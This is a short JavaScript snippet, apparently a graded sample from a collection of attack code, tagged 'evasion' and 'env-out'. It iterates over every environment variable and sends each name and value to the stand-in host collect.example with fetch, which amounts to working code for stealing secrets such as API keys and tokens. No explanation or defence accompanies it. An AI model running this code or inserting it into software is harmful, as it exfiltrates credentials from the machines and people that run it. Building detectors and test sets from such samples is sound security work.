// evasion: every variable sent with fetch
// grade: medium; does: env-out
for (const [k, v] of Object.entries(process.env)) {
  fetch('https://collect.example/' + encodeURIComponent(k + '=' + v));
}
